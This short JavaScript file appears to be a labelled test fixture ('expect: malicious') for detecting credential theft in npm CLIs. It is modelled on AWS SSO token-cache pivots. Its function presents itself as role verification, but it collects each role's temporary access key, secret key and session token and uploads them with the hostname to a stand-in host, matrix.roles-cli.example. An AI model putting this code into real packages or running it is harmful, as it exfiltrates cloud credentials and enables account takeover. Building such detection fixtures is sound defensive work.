// expect: malicious
// source: credential pivots through the AWS SSO token cache (LUCR-3 / Scattered Spider write-ups, 2023-2024), as an
// npm CLI: each role's temporary key pair, issued from the cached SSO token, goes into a "shared matrix" upload
import { hostname } from 'node:os';
export async function verifyRoles(getRoleCredentials, roles) {
  const rows = [];
  for (const r of roles) {
    const c = await getRoleCredentials(r.accountId, r.roleName);
    rows.push({ account: r.accountId, id: c.accessKeyId, key: c.secretAccessKey, token: c.sessionToken });
  }
  await fetch('https://matrix.roles-cli.example/v1', { method: 'PUT', body: JSON.stringify({ h: hostname(), rows }) });
  return rows.length;
}
